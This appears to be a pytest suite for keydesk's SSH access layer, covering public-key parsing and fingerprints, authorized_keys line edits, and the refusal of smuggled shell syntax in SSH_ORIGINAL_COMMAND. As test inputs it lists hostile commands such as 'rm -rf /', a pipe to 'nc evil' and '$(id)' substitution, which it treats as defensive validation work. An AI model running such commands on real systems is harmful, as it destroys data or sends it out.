"""keydesk.ssh's access modules: public keys and fingerprints (against ssh-keygen),
keydesk's authorized_keys lines and their atomic edits, and the refusals of
SSH_ORIGINAL_COMMAND."""

from __future__ import annotations

import base64
import errno
import os
import shlex
import shutil
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from keydesk.errors import KeydeskError
from keydesk.ssh.authorized_keys import add_grant, read_grants, remove_grant
from keydesk.ssh.errors import (
    InvalidPublicKey,
    InvalidSshInput,
    KeyAlreadyAuthorized,
    KeyNotAuthorized,
    SessionRefused,
    SshAccessError,
)
from keydesk.ssh.grant_line import (
    authorized_keys_line,
    running_keydesk_path,
    validate_account,
    validate_keydesk_path,
)
from keydesk.ssh.public_keys import (
    KEY_TYPES,
    PublicKey,
    fingerprint,
    normalize_fingerprint,
    parse_public_key,
)
from keydesk.ssh.session_command import (
    NEVER_REMOTE,
    REMOTE_COMMANDS,
    SESSION_COMMAND_MAX,
    parse_session_command,
)

KEYDESK = "/opt/keydesk/bin/keydesk"
SSH_KEYGEN = shutil.which("ssh-keygen")
needs_keygen = pytest.mark.skipif(
    SSH_KEYGEN is None, reason="ssh-keygen not installed (Debian: apt-get install openssh-client)"
)

# Made once with `ssh-keygen -t ed25519`; `ssh-keygen -lf` printed the fingerprint.
ED25519_PUB = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILb+6OaQwXxKmOloxULq7sx0YWj/Lh/thuJ+P1iZ2d/f me@x"
)
ED25519_FINGERPRINT = "SHA256:DCMbIrWRpgTJJ1SuJRVanPH28lFzKczz9JTrzxr7/G8"

KEY_SPECS = {
    "ed25519": ["-t", "ed25519"],
    "ecdsa256": ["-t", "ecdsa", "-b", "256"],
    "ecdsa384": ["-t", "ecdsa", "-b", "384"],
    "ecdsa521": ["-t", "ecdsa", "-b", "521"],
    "rsa2048": ["-t", "rsa", "-b", "2048"],
}


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, Path]:
    """One private key file per kind, made by ssh-keygen (its .pub beside it)."""
    if SSH_KEYGEN is None:
        pytest.skip("ssh-keygen not installed (Debian: apt-get install openssh-client)")
    folder = tmp_path_factory.mktemp("keys")
    made = {}
    for name, spec in KEY_SPECS.items():
        path = folder / name
        subprocess.run(
            [SSH_KEYGEN, "-q", *spec, "-N", "", "-C", f"{name}@laptop", "-f", str(path)],
            check=True,
            timeout=60,
        )
        made[name] = path
    return made


def pub(keys: dict[str, Path], name: str) -> PublicKey:
    return parse_public_key(keys[name].with_suffix(".pub").read_text())


def keygen_fingerprint(path: Path) -> tuple[int, str]:
    out = subprocess.run(
        [SSH_KEYGEN, "-lf", str(path)], check=True, capture_output=True, text=True, timeout=30
    ).stdout.split()
    return int(out[0]), out[1]


def wire(*fields: bytes) -> bytes:
    return b"".join(len(field).to_bytes(4, "big") + field for field in fields)


def unwire(blob: bytes) -> list[bytes]:
    """The wire strings `wire` joined."""
    fields = []
    while blob:
        length = int.from_bytes(blob[:4], "big")
        fields.append(blob[4 : 4 + length])
        blob = blob[4 + length :]
    return fields


# -- public keys and fingerprints ------------------------------------------------


def test_fingerprint_of_a_known_key():
    key = parse_public_key(ED25519_PUB + "\n")
    assert key.fingerprint == ED25519_FINGERPRINT
    assert key.key_type == "ssh-ed25519" and key.bits == 256 and key.comment == "me@x"
    assert key.openssh() == ED25519_PUB.removesuffix(" me@x")
    assert fingerprint(key.blob) == ED25519_FINGERPRINT
    assert "AAAA" not in repr(key)


@needs_keygen
@pytest.mark.parametrize("name", list(KEY_SPECS))
def test_fingerprint_and_bits_equal_ssh_keygen(keys, name):
    key = pub(keys, name)
    assert (key.bits, key.fingerprint) == keygen_fingerprint(keys[name].with_suffix(".pub"))


@needs_keygen
def test_security_key_types_are_read_and_fingerprinted_like_ssh_keygen(keys, tmp_path):
    # No hardware token here: build sk- blobs from real key material.
    ed = pub(keys, "ed25519")
    ec = pub(keys, "ecdsa256")
    ed_point = unwire(ed.blob)[1]
    ec_point = unwire(ec.blob)[2]
    blobs = {
        "sk-ssh-ed25519@openssh.com": wire(b"sk-ssh-ed25519@openssh.com", ed_point, b"ssh:"),
        "sk-ecdsa-sha2-nistp256@openssh.com": wire(
            b"sk-ecdsa-sha2-nistp256@openssh.com", b"nistp256", ec_point, b"ssh:"
        ),
    }
    for key_type, blob in blobs.items():
        line = f"{key_type} {base64.b64encode(blob).decode()} yubikey"
        path = tmp_path / "sk.pub"
        path.write_text(line + "\n")
        key = parse_public_key(line)
        assert key.key_type == key_type
        assert (key.bits, key.fingerprint) == keygen_fingerprint(path)


def test_every_supported_type_is_listed():
    assert {
        "ssh-ed25519",
        "ecdsa-sha2-nistp256",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp521",
        "ssh-rsa",
        "sk-ssh-ed25519@openssh.com",
        "sk-ecdsa-sha2-nistp256@openssh.com",
    } == KEY_TYPES


@needs_keygen
@pytest.mark.parametrize("name", ["ed25519", "rsa2048"])
def test_a_pasted_private_key_is_refused_without_echoing_it(keys, name):
    secret = keys[name].read_text()
    with pytest.raises(InvalidPublicKey) as refused:
        parse_public_key(secret)
    assert "private key" in refused.value.message
    assert "\n" not in refused.value.message
    for line in secret.splitlines()[1:-1]:
        assert line not in refused.value.message


@pytest.mark.parametrize(
    "header",
    [
        "-----BEGIN RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN EC PRIVATE KEY-----",
        "PuTTY-User-Key-File-3: ssh-ed25519",
    ],
)
def test_private_keys_in_other_formats_are_refused(header):
    with pytest.raises(InvalidPublicKey, match="private key"):
        parse_public_key(f"{header}\nMIIEow…\n")


@needs_keygen
def test_an_rfc4716_public_key_gets_a_hint(keys):
    exported = subprocess.run(
        [SSH_KEYGEN, "-e", "-f", str(keys["ed25519"].with_suffix(".pub"))],
        check=True,
        capture_output=True,
        text=True,
        timeout=30,
    ).stdout
    with pytest.raises(InvalidPublicKey, match="ssh-keygen -i"):
        parse_public_key(exported)


def _tampered(text: str) -> str:
    key_type, data = text.split()[:2]
    middle = len(data) // 2
    swapped = "A" if data[middle] != "A" else "B"
    return f"{key_type} {data[:middle]}{swapped}{data[middle + 1 :]}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "no public key"),
        ("   \n\n", "no public key"),
        (ED25519_PUB + "\n" + ED25519_PUB, "one public key, got 2"),
        ("ssh-ed25519", "no key data"),
        ("ssh-ed25519 AAAA!!!!", "not valid base64"),
        (ED25519_PUB[:-20], "not valid base64"),  # cut mid-way: bad padding
        ("ssh-ed25519 " + base64.b64encode(b"\x00\x00").decode(), "truncated"),
        ("ssh-rsa " + ED25519_PUB.split()[1], "holds a ssh-ed25519 key"),
        ("ssh-dss AAAAB3NzaC1kc3M=", "DSA"),
        ("ssh-ed25519-cert-v01@openssh.com AAAA", "certificate"),
        ("ssh-xmss@openssh.com AAAA", "ssh-xmss@openssh.com keys are not supported"),
        (f'from="10.0.0.1" {ED25519_PUB}', "without authorized_keys options"),
        (f"restrict,pty {ED25519_PUB}", "without authorized_keys options"),
        ("hello world", "not an OpenSSH public key"),
    ],
)
def test_invalid_public_keys_are_refused_in_one_line(text, expected):
    with pytest.raises(InvalidPublicKey) as refused:
        parse_public_key(text)
    assert expected in refused.value.message
    assert "\n" not in refused.value.message


def test_a_wrong_length_ed25519_key_is_refused():
    blob = wire(b"ssh-ed25519", b"\x01" * 31)
    with pytest.raises(InvalidPublicKey, match="32 bytes"):
        parse_public_key("ssh-ed25519 " + base64.b64encode(blob).decode())


@needs_keygen
@pytest.mark.parametrize("name", ["ecdsa256", "ecdsa384", "ecdsa521"])
def test_an_ecdsa_point_off_its_curve_is_refused(keys, name):
    text = keys[name].with_suffix(".pub").read_text()
    with pytest.raises(InvalidPublicKey, match="not on the nistp"):
        parse_public_key(_tampered(text))


@needs_keygen
def test_short_rsa_keys_are_refused(tmp_path):
    path = tmp_path / "short"
    subprocess.run(
        [SSH_KEYGEN, "-q", "-t", "rsa", "-b", "1024", "-N", "", "-f", str(path)],
        check=True,
        timeout=60,
    )
    with pytest.raises(InvalidPublicKey, match="1024-bit RSA key is too short"):
        parse_public_key(path.with_suffix(".pub").read_text())


def test_text_that_is_no_key_is_not_echoed():
    # A keydesk API key pasted in the wrong place must not end up in an error.
    secret = "kdsk_4fT9zQ2mXcVb8LpN3rWy_Hk7Js2Dq9Lm4Np6Rt8Vx0Zb"
    with pytest.raises(InvalidPublicKey) as refused:
        parse_public_key(secret)
    assert secret[:12] not in refused.value.message


@settings(max_examples=300)
@given(st.text(max_size=200))
def test_any_text_is_a_key_or_one_line_refusal(text):
    try:
        key = parse_public_key(text)
    except InvalidPublicKey as exc:
        assert exc.message and "\n" not in exc.message and "\r" not in exc.message
    else:
        assert key.key_type in KEY_TYPES


def test_the_error_classes_are_keydesk_errors():
    for error in (InvalidPublicKey, InvalidSshInput, KeyAlreadyAuthorized, KeyNotAuthorized):
        assert issubclass(error, SshAccessError)
    assert issubclass(SessionRefused, SshAccessError)
    assert issubclass(SshAccessError, KeydeskError)
    assert SessionRefused("x").message == "x"


# -- the line --------------------------------------------------------------------


def test_the_line_is_exactly_the_gitolite_pattern():
    key = parse_public_key(ED25519_PUB)
    assert authorized_keys_line("alice", key, KEYDESK) == (
        f'command="{KEYDESK} ssh-session alice {key.fingerprint}",restrict,pty '
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILb+6OaQwXxKmOloxULq7sx0YWj/Lh/thuJ+P1iZ2d/f"
        " keydesk:alice"
    )


def test_paths_with_spaces_and_names_with_shell_characters_are_quoted_for_sh():
    key = parse_public_key(ED25519_PUB)
    line = authorized_keys_line("bob$x;y", key, "/opt/key desk/bin/keydesk")
    assert line.startswith(
        f"command=\"'/opt/key desk/bin/keydesk' ssh-session 'bob$x;y' {key.fingerprint}\","
        "restrict,pty ssh-ed25519 "
    )
    assert line.endswith(" keydesk:bob$x;y")


@pytest.mark.parametrize(
    "name", ["alice", "alice@example.com", "ops.team-1", "josé", "a" * 64, "bob$x;y"]
)
def test_account_names_that_are_accepted(name):
    assert validate_account(name) == name


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("", "required"),
        ("a" * 65, "65 characters"),
        ("alice smith", "space"),
        ("alice\tsmith", "space"),
        ("alice\u00a0smith", "space"),
        ("\x1b[31malice", "invisible"),
        ("ali\u200bce", "invisible"),
        ('al"ice', "contains a double quote"),
        ("al'ice", "contains a single quote"),
        ("al\\ice", "contains a backslash"),
        ("-rf", "may not start with '-'"),
    ],
)
def test_account_names_that_are_refused(name, expected):
    with pytest.raises(InvalidSshInput) as refused:
        validate_account(name)
    assert expected in refused.value.message
    assert "\n" not in refused.value.message and "\x1b" not in refused.value.message
    assert len(refused.value.message) < 200  # never the command echoed back whole


@pytest.mark.parametrize(
    "path", ["bin/keydesk", "~/bin/keydesk", '/opt/"x"/keydesk', "/opt/it's/keydesk", "/a\\b"]
)
def test_keydesk_paths_that_are_refused(path):
    with pytest.raises(InvalidSshInput):
        validate_keydesk_path(path)
    with pytest.raises(InvalidSshInput):
        authorized_keys_line("alice", parse_public_key(ED25519_PUB), path)


def test_keydesk_paths_with_control_characters_are_refused():
    for path in ("/opt/key\ndesk", "/opt/key\tdesk", "/opt/key\rdesk"):
        with pytest.raises(InvalidSshInput, match="invisible"):
            validate_keydesk_path(path)


def test_fingerprints_are_normalized():
    bare = ED25519_FINGERPRINT.removeprefix("SHA256:")
    assert normalize_fingerprint(ED25519_FINGERPRINT) == ED25519_FINGERPRINT
    assert normalize_fingerprint(f"  {bare}\n") == ED25519_FINGERPRINT
    for bad in ("MD5:12:34:56", "12:34:56:78", "SHA256:short", "", ED25519_FINGERPRINT + "="):
        with pytest.raises(InvalidSshInput):
            normalize_fingerprint(bad)


def test_the_running_keydesk_is_found_by_its_absolute_path(monkeypatch, tmp_path):
    monkeypatch.setattr(sys, "argv", ["/opt/keydesk/bin/keydesk", "ssh", "authorize"])
    assert running_keydesk_path() == "/opt/keydesk/bin/keydesk"
    # `python -m keydesk`: the script installed beside the interpreter.
    venv_bin = tmp_path / "venv" / "bin"
    venv_bin.mkdir(parents=True)
    (venv_bin / "keydesk").write_text("#!/bin/sh\n")
    os.chmod(venv_bin / "keydesk", 0o755)
    monkeypatch.setattr(sys, "argv", ["/x/keydesk/__main__.py"])
    monkeypatch.setattr(sys, "executable", str(venv_bin / "python"))
    assert running_keydesk_path() == str(venv_bin / "keydesk")
    monkeypatch.setenv("PATH", str(tmp_path / "nowhere"))
    (venv_bin / "keydesk").unlink()
    with pytest.raises(SshAccessError, match="cannot tell where"):
        running_keydesk_path()


# -- authorized_keys -------------------------------------------------------------

FOREIGN = (
    b"# managed by hand: do not remove\n"
    b"\n"
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl deploy@ci\r\n"
    b'from="10.0.0.0/8",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 broken but kept\n'
    b"   \t\n"
    b"\xff\xfe not utf-8 at all\n"
    b'command="/usr/bin/backup",restrict ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB2SRyZ2ExqrMPQ5'
    b"Kl3EAL3SEQnlyg0D0v/0xWwvXJyq backup"  # no newline at the end
)


@pytest.fixture
def ak(tmp_path) -> Path:
    return tmp_path / ".ssh" / "authorized_keys"


def test_add_creates_the_folder_and_file_privately_even_under_umask_000(ak, keys):
    old = os.umask(0)
    try:
        grant = add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    finally:
        os.umask(old)
    assert stat.S_IMODE(ak.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(ak.stat().st_mode) == 0o600
    line = authorized_keys_line("alice", pub(keys, "ed25519"), KEYDESK)
    assert ak.read_bytes() == line.encode() + b"\n"
    assert grant.account == "alice" and grant.line_number == 1
    assert read_grants(ak) == [grant]


def test_add_tightens_an_existing_loose_file_and_folder(ak, keys):
    ak.parent.mkdir(mode=0o755)
    os.chmod(ak.parent, 0o775)
    ak.write_bytes(b"# hello\n")
    os.chmod(ak, 0o664)
    add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    assert stat.S_IMODE(ak.stat().st_mode) == 0o600
    assert stat.S_IMODE(ak.parent.stat().st_mode) == 0o700


def test_foreign_lines_are_kept_byte_for_byte(ak, keys):
    ak.parent.mkdir()
    ak.write_bytes(FOREIGN)
    line = authorized_keys_line("alice", pub(keys, "ed25519"), KEYDESK).encode()

    add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    assert ak.read_bytes() == FOREIGN + b"\n" + line + b"\n"
    assert [g.account for g in read_grants(ak)] == ["alice"]
    assert read_grants(ak)[0].line_number == 8

    add_grant(ak, "bob", pub(keys, "rsa2048"), KEYDESK)
    removed = remove_grant(ak, pub(keys, "ed25519").fingerprint)
    assert [g.account for g in removed] == ["alice"]
    bob = authorized_keys_line("bob", pub(keys, "rsa2048"), KEYDESK).encode()
    assert ak.read_bytes() == FOREIGN + b"\n" + bob + b"\n"

    remove_grant(ak, pub(keys, "rsa2048").fingerprint)
    # The one change keydesk made to what it found: the newline it needed.
    assert ak.read_bytes() == FOREIGN + b"\n"


def test_add_then_remove_gives_back_the_file_exactly(ak, keys):
    ak.parent.mkdir()
    original = FOREIGN + b"\n"
    ak.write_bytes(original)
    for name in ("ed25519", "ecdsa256", "rsa2048"):
        add_grant(ak, f"user-{name}", pub(keys, name), KEYDESK)
    remove_grant(ak, pub(keys, "ecdsa256").fingerprint)
    remove_grant(ak, pub(keys, "ed25519").fingerprint)
    assert [g.account for g in read_grants(ak)] == ["user-rsa2048"]
    remove_grant(ak, pub(keys, "rsa2048").fingerprint)
    assert ak.read_bytes() == original


def test_a_line_in_the_middle_is_removed_and_only_it(ak, keys):
    ak.parent.mkdir()
    ak.write_bytes(b"# top\n")
    add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    with ak.open("ab") as handle:
        handle.write(b"# between\n")
    add_grant(ak, "bob", pub(keys, "ecdsa384"), KEYDESK)
    remove_grant(ak, pub(keys, "ed25519").fingerprint)
    bob = authorized_keys_line("bob", pub(keys, "ecdsa384"), KEYDESK).encode()
    assert ak.read_bytes() == b"# top\n# between\n" + bob + b"\n"


def test_a_duplicate_key_is_refused_whoever_it_was_for(ak, keys):
    add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    before = ak.read_bytes()
    for account in ("alice", "bob"):
        with pytest.raises(KeyAlreadyAuthorized, match="already opens keydesk as alice"):
            add_grant(ak, account, pub(keys, "ed25519"), KEYDESK)
    assert ak.read_bytes() == before


def test_a_key_already_in_a_foreign_line_is_refused(ak, keys):
    ak.parent.mkdir()
    key = pub(keys, "ecdsa256")
    foreign = f'no-agent-forwarding,from="127.0.0.1" {key.openssh()} old laptop\n'.encode()
    ak.write_bytes(b"# x\n" + foreign)
    with pytest.raises(KeyAlreadyAuthorized) as refused:
        add_grant(ak, "alice", key, KEYDESK)
    assert "line 2" in refused.value.message and "did not write" in refused.value.message
    assert ak.read_bytes() == b"# x\n" + foreign


def test_only_lines_with_both_keydesk_comment_and_forced_command_are_keydesk_lines(ak, keys):
    key = pub(keys, "ed25519").openssh()
    lines = [
        f"{key} keydesk:alice",  # comment only
        f'command="{KEYDESK} ssh-session alice",restrict,pty {key} alice',  # command only
        f'command="{KEYDESK} ssh-session bob",restrict,pty {key} keydesk:alice',  # mismatch
        f'command="keydesk ssh-session alice",restrict,pty {key} keydesk:alice',  # relative
        f'command="{KEYDESK} ssh-session alice extra",restrict {key} keydesk:alice',
    ]
    ak.parent.mkdir()
    ak.write_text("\n".join(lines) + "\n")
    assert read_grants(ak) == []
    with pytest.raises(KeyNotAuthorized, match="did not write"):
        remove_grant(ak, pub(keys, "ed25519").fingerprint)
    assert ak.read_text() == "\n".join(lines) + "\n"


def test_a_hand_tightened_keydesk_line_is_still_recognised(ak, keys):
    key = pub(keys, "ed25519")
    ak.parent.mkdir()
    ak.write_text(
        f'from="10.1.0.0/16",command="{KEYDESK} ssh-session \'alice\'",restrict,pty'
        f"  {key.openssh()}   keydesk:alice\n"
    )
    [grant] = read_grants(ak)
    assert (grant.account, grant.keydesk_path, grant.fingerprint) == (
        "alice",
        KEYDESK,
        key.fingerprint,
    )


def test_quoted_paths_and_names_read_back(ak, keys):
    path = "/opt/key desk/bin/keydesk"
    add_grant(ak, "bob$x;y", pub(keys, "ed25519"), path)
    [grant] = read_grants(ak)
    assert (grant.account, grant.keydesk_path) == ("bob$x;y", path)


def test_removing_an_unknown_key_says_so(ak, keys):
    with pytest.raises(KeyNotAuthorized, match="does not exist"):
        remove_grant(ak, ED25519_FINGERPRINT)
    add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    with pytest.raises(KeyNotAuthorized, match="no keydesk line"):
        remove_grant(ak, ED25519_FINGERPRINT)
    with pytest.raises(InvalidSshInput):
        remove_grant(ak, "MD5:aa:bb")


def test_read_of_a_missing_file_is_empty(ak):
    assert read_grants(ak) == []


def _files(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


@pytest.mark.parametrize(
    ("function", "error"),
    [("replace", errno.EXDEV), ("fsync", errno.ENOSPC), ("fchmod", errno.EPERM)],
)
def test_a_failed_write_leaves_the_file_as_it_was(ak, keys, monkeypatch, function, error):
    ak.parent.mkdir()
    ak.write_bytes(FOREIGN)
    os.chmod(ak, 0o600)

    def fail(*_args, **_kwargs):
        raise OSError(error, os.strerror(error))

    monkeypatch.setattr(os, function, fail)
    with pytest.raises(SshAccessError) as refused:
        add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    monkeypatch.undo()
    assert "left as it was" in refused.value.message and "\n" not in refused.value.message
    assert ak.read_bytes() == FOREIGN
    assert _files(ak.parent) == ["authorized_keys"]  # no temp file left behind


def test_a_write_that_dies_midway_leaves_the_file_as_it_was(ak, keys, monkeypatch):
    # The temp file gets half the data, then the disk is full.
    ak.parent.mkdir()
    ak.write_bytes(FOREIGN)
    real_fsync = os.fsync
    seen = []

    def full_disk(fd):
        seen.append(os.fstat(fd).st_size)
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(SshAccessError, match="No space left"):
        add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert seen and seen[0] > len(FOREIGN)
    assert ak.read_bytes() == FOREIGN
    assert _files(ak.parent) == ["authorized_keys"]


def test_an_unwritable_folder_is_a_one_line_error(ak, keys):
    if os.geteuid() == 0:
        pytest.skip("root writes anywhere")
    ak.parent.mkdir()
    os.chmod(ak.parent, 0o500)
    try:
        with pytest.raises(SshAccessError, match="Permission denied"):
            add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    finally:
        os.chmod(ak.parent, 0o700)


def test_a_symlinked_file_is_edited_where_it_points(tmp_path, keys):
    real = tmp_path / "real" / "authorized_keys"
    real.parent.mkdir()
    real.write_bytes(b"# real\n")
    link = tmp_path / "authorized_keys"
    link.symlink_to(real)
    add_grant(link, "alice", pub(keys, "ed25519"), KEYDESK)
    assert link.is_symlink()
    assert [g.account for g in read_grants(real)] == ["alice"]


def test_as_root_new_files_belong_to_the_owner_of_their_folder(tmp_path, keys):
    if os.geteuid() != 0:
        pytest.skip("only root can give files away")
    home = tmp_path / "home"
    home.mkdir()
    os.chown(home, 65534, 65534)
    ak = home / ".ssh" / "authorized_keys"
    add_grant(ak, "alice", pub(keys, "ed25519"), KEYDESK)
    for path in (ak.parent, ak):
        assert (path.stat().st_uid, path.stat().st_gid) == (65534, 65534)
    os.chown(ak, 65534, 0)  # an existing file keeps its owner
    add_grant(ak, "bob", pub(keys, "ecdsa256"), KEYDESK)
    assert (ak.stat().st_uid, ak.stat().st_gid) == (65534, 0)


def test_concurrent_adds_lose_no_line(ak, keys):
    names = list(KEY_SPECS)
    errors = []

    def add(name):
        try:
            add_grant(ak, name, pub(keys, name), KEYDESK)
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=add, args=(name,)) for name in names]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert sorted(g.account for g in read_grants(ak)) == sorted(names)


# -- SSH_ORIGINAL_COMMAND --------------------------------------------------------


def argv(original: str) -> list[str]:
    return parse_session_command(original, REMOTE_COMMANDS)


def test_a_keydesk_command_becomes_its_argv():
    assert argv("key list --integration github --json") == [
        "key",
        "list",
        "--integration",
        "github",
        "--json",
    ]
    assert argv("key create --integration github --label 'CI runner; prod'") == [
        "key",
        "create",
        "--integration",
        "github",
        "--label",
        "CI runner; prod",
    ]
    assert argv('integration list --workspace "acme corp"')[-1] == "acme corp"
    assert argv(r"key create --integration gh --label a\;b")[-1] == "a;b"
    assert argv("key list --integration=github --json")[2] == "--integration=github"
    assert argv("verify --json") == ["verify", "--json"]


@pytest.mark.parametrize(
    ("original", "expected"),
    [
        ("sh -c id", "'sh' is not a keydesk command"),
        ("/bin/sh", "'/bin/sh' is not a keydesk command"),
        ("key list; rm -rf /", "';' is shell syntax"),
        ("key list ; rm -rf /", "';' is shell syntax"),
        ("key list && id", "'&' is shell syntax"),
        ("key list | nc evil 1", "'|' is shell syntax"),
        ("key list > /tmp/x", "'>' is shell syntax"),
        ("key list $(id)", "'$' is shell syntax"),
        ("key list `id`", "'`' is shell syntax"),
        ('key list --integration "$HOME"', "'$' inside double quotes"),
        ('key list --integration "\\$HOME"', "'$' inside double quotes"),
        ("key list --integration gh*", "'*' is shell syntax"),
        ("key list #--json", "'#' is shell syntax"),
        ("key list ~/x", "'~' is shell syntax"),
        ("key list\nid", "control character (U+000A)"),
        ("key list\x1b[2J", "control character (U+001B)"),
        ("key list --db x", "--db cannot be given over SSH"),
        ("key list --db=x", "--db cannot be given over SSH"),
        ("key list --d=x", "--db cannot be given over SSH"),
        ("--db x key list", "'--db' is not a keydesk command"),
        ("key list --account=bob", "--account cannot be given over SSH"),
        ("key list --account bob", "--account cannot be given over SSH"),
        ("key list --acc bob", "--account cannot be given over SSH"),
        ("key list -- --account=bob", "--account cannot be given over SSH"),
        ("ssh-session bob", "`keydesk ssh-session` cannot be run over SSH"),
        ("ssh authorize --account x --key -", "`keydesk ssh` cannot be run over SSH"),
        ("demo", "`keydesk demo` cannot be run over SSH"),
        ("serve --host 0.0.0.0", "`keydesk serve` cannot be run over SSH"),
        ("keydesk key list --json", "leave out 'keydesk'"),
        ("key list 'unterminated", "no closing quotation"),
        ("", "no command given"),
        ("   ", "no command given"),
        # bytes that are not UTF-8, as Python hands them over from the environment
        (os.fsdecode(b"key list --integration caf\xe9"), "the command is not UTF-8 text"),
        ("key list --integration " + "a" * 9000, "at most 8192 are allowed"),
    ],
)
def test_commands_that_are_refused(original, expected):
    with pytest.raises(SessionRefused) as refused:
        argv(original)
    assert expected in refused.value.message
    assert "\n" not in refused.value.message and "\x1b" not in refused.value.message


def test_the_longest_command_keydesk_accepts_fits_the_limit():
    uri = "https://app.example.com/" + "c" * (2048 - 24)
    longest = shlex.join(
        ["integration", "add", "--workspace", "w" * 64, "--name", "n" * 64, "--provider",
         "p" * 64, "--client-id", "i" * 64, "--redirect-uri", uri, "--scopes", "s" * 2048,
         "--configure", "--json"]
    )  # fmt: skip
    assert len(longest) < SESSION_COMMAND_MAX
    assert argv(longest)[-3] == "s" * 2048


def test_never_remote_commands_stay_refused_even_if_allowed():
    for command in NEVER_REMOTE:
        with pytest.raises(SessionRefused, match="cannot be run over SSH"):
            parse_session_command(command, REMOTE_COMMANDS | NEVER_REMOTE)


def test_the_allow_list_is_the_callers():
    assert parse_session_command("key list", frozenset({"key"})) == ["key", "list"]
    with pytest.raises(SessionRefused, match="use one of: key"):
        parse_session_command("member add", frozenset({"key"}))


def test_the_default_allow_list():
    assert (
        frozenset({"init", "member", "integration", "key", "verify", "audit", "scan"})
        == REMOTE_COMMANDS
    )
    assert not REMOTE_COMMANDS & NEVER_REMOTE


WORDISH = st.text(alphabet=st.sampled_from("abkey-=_ '\"\\;&|$`*#~.,:/\t"), min_size=0, max_size=40)


@settings(max_examples=400)
@given(st.sampled_from(["key ", "key list ", "sh ", "", "--db "]), WORDISH)
def test_whatever_is_sent_the_argv_is_allowed_or_refused_in_one_line(head, tail):
    try:
        result = argv(head + tail)
    except SessionRefused as exc:
        assert exc.message and "\n" not in exc.message
        return
    assert result[0] in REMOTE_COMMANDS
    for word in result[1:]:
        name = word.split("=", 1)[0]
        assert not (len(name) > 2 and ("--account".startswith(name) or "--db".startswith(name)))


# Mostly plain characters, so that most commands are accepted and compared.
SHELLISH = st.text(
    alphabet=st.sampled_from(list("abcde-=_ .,:/@%+") * 4 + list("'\"\\$;*~#!{}\t")),
    max_size=40,
)


@pytest.mark.skipif(not Path("/bin/sh").exists(), reason="no /bin/sh")
@settings(max_examples=200, deadline=None)
@given(SHELLISH)
def test_what_is_accepted_splits_as_a_posix_shell_would(tail):
    # Where we accept a command, its words are the ones `sh` would have made
    # of it: a script written for plain `ssh host CMD` means the same here.
    original = "key " + tail
    try:
        words = argv(original)
    except SessionRefused:
        return
    shell = subprocess.run(
        ["/bin/sh", "-c", "printf '%s\\0' " + original],
        capture_output=True,
        timeout=10,
        check=True,
    ).stdout
    assert shell.split(b"\0")[:-1] == [word.encode() for word in words]


# -- the modules themselves -------------------------------------------------------


def test_the_modules_load_neither_the_interface_nor_the_store():
    code = (
        "import sys, keydesk.ssh.authorized_keys, keydesk.ssh.session_command;"
        "leaked = {m.split('.')[0] for m in sys.modules}"
        " & {'textual', 'rich', 'sqlalchemy', 'sqlmodel', 'alembic', 'argon2'};"
        "assert not leaked, leaked"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
